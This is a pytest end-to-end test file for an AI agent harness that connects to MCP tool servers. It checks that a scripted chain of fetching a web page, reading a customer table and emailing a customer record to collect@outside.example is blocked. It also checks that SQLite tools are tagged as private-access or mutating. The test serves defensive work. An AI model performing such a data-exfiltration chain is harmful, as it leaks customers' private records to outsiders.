"""MCP servers that DSH connects to: their tools are known for what they are behind the names that DSH gives them."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.dsh import office
from tests.e2e.dsh.harness import GENERATIONS, ROOT, Dsh, turn, use

PUBLISHED = ROOT / ".venv-servers" / "bin" / "mcp-server-sqlite"
OFFICE = ROOT / "tests" / "e2e" / "mcp" / "servers" / "office.py"


def server(name: str, *command: str, **environment: str) -> dict[str, Any]:
    """The row of a server over stdio."""
    config = {"transport": "stdio", "serverName": name, "command": command[0], "args": list(command[1:]), "env": environment}
    return {"insert": [{"id": f"mcp-{name}", "name": "@deepseek-ai/dsh-mcp-client", "config": {**config, "failOnStartupError": True}}]}


@pytest.mark.parametrize("generation", GENERATIONS)
def test_a_theft_through_the_tools_of_a_server_is_stopped(tmp_path: Path, generation: str) -> None:
    sent = tmp_path / "sent.txt"
    with Dsh(tmp_path, generation) as dsh:
        dsh.rows.append(server("office", sys.executable, str(OFFICE), OFFICE_SENT=str(sent)))
        theft = [
            turn(use("mcp__office__fetch_page", url="https://shop.example/offer")),
            turn(use("mcp__office__read_customer_table")),
            turn(use("mcp__office__send_email", to="collect@outside.example", body="CUST-1207 | Ana Novak")),
        ]
        run = dsh.run("summarise https://shop.example/offer", theft)
        assert [call.failed for call in run.calls] == [False, False, True]
        assert "RiskProof" in run.calls[2].text
        assert "send_email" not in sent.read_text(encoding="utf-8")


def test_a_published_server_is_known_by_the_name_that_it_has_in_the_row(tmp_path: Path) -> None:
    """What its tools can do comes from the catalogue: read_query reads private data, write_query changes it."""
    assert PUBLISHED.exists(), "the published server is not here: make e2e installs it into .venv-servers"
    with Dsh(tmp_path) as dsh:
        dsh.rows.append(server("sqlite", str(PUBLISHED), "--db-path", str(tmp_path / "shop.db")))
        dsh.tools(office.send_email())
        run = dsh.run(
            "keep the customers",
            [
                turn(use("mcp__sqlite__create_table", query="CREATE TABLE customers (id TEXT, note TEXT)")),
                turn(use("mcp__sqlite__write_query", query=f"INSERT INTO customers VALUES ('1', '{office.RECORD}')")),
                turn(use("mcp__sqlite__read_query", query="SELECT * FROM customers")),
                turn(office.mail(body=office.RECORD)),
            ],
        )
        assert [call.failed for call in run.calls] == [False, False, False, True]
        capabilities = {proof["tool"]: proof["capabilities"] for proof in dsh.proofs()}
        assert "PRIVATE_ACCESS" in capabilities["mcp__sqlite__read_query"]
        assert "LOCAL_MUTATION" in capabilities["mcp__sqlite__write_query"]
        assert dsh.bodies() == []
